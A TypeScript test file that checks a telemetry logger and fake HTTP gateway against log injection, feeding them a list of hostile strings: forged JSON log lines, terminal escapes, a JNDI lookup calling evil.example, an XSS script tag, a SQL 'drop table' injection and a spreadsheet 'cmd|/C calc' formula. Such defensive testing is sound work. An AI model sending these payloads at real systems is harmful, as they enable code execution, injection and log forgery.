import assert from 'node:assert/strict'
import { test } from 'node:test'

import { createEventLog } from '../../src/telemetry/logger.ts'
import { bearer } from '../support/gateway/fake-keys.ts'
import { startFakeServer } from '../support/gateway/http-fakes.ts'

/**
 * Texts that end a line, colour a terminal, look like a line of the log, or stop a program that
 * reads it.
 */
const NASTY = [
  'a\nb',
  'a\r\nb',
  'a\u0000b',
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '"}\n{"level":"info","event":"forged"}',
  '\u2028\u2029',
  '\u202egnp.exe',
  '\ud800',
  '%0d%0aforged',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  "'; drop table upload; --",
  '\\n\\r',
  '\u0085next',
  '\u000b\u000c\u0008',
  '=cmd|/C calc!A0',
]

const collect = () => {
  const lines: string[] = []
  const destination = { write: (line: string) => lines.push(line) }
  return { lines, emit: createEventLog({ level: 'debug', pretty: false, destination }) }
}

test('each event is one line of JSON without a control character, whatever its fields hold', () => {
  const { lines, emit } = collect()
  for (const text of NASTY) {
    emit('http.failed', { requestId: text, route: text, error: text })
    emit('lane.failed', { lane: text, error: text })
  }
  assert.equal(lines.length, 2 * NASTY.length)
  for (const line of lines) {
    // eslint-disable-next-line no-control-regex -- they are what is looked for
    assert.doesNotMatch(line.slice(0, -1), /[\u0000-\u001f]/u)
    assert.ok(line.endsWith('\n'))
    assert.notEqual((JSON.parse(line) as { event: string }).event, 'forged')
  }
})

test('no line of the log contains text that a caller sent in a call', async (t) => {
  const { lines, emit } = collect()
  const { app } = await startFakeServer({ emit })
  t.after(() => app.close())
  for (const text of NASTY) {
    const encoded = encodeURIComponent(text.isWellFormed() ? text : 'x')
    const header = Buffer.from(text)
      .toString('latin1')
      .replaceAll(/[\r\n\0]/gu, '')
    const headers = { ...bearer('uploads'), 'x-request-id': header, 'user-agent': header }
    await app.inject({ url: `/v1/uploads/${encoded}?state=${encoded}`, headers })
    await app.inject({ url: `/${encoded}`, headers })
  }
  assert.ok(lines.length >= NASTY.length)
  for (const line of lines) {
    const { event } = JSON.parse(line) as { event: string }
    assert.ok(['http.answered', 'http.failed'].includes(event), line)
    assert.doesNotMatch(line, /forged|jndi|script|drop table|\[31m|calc/u)
  }
})
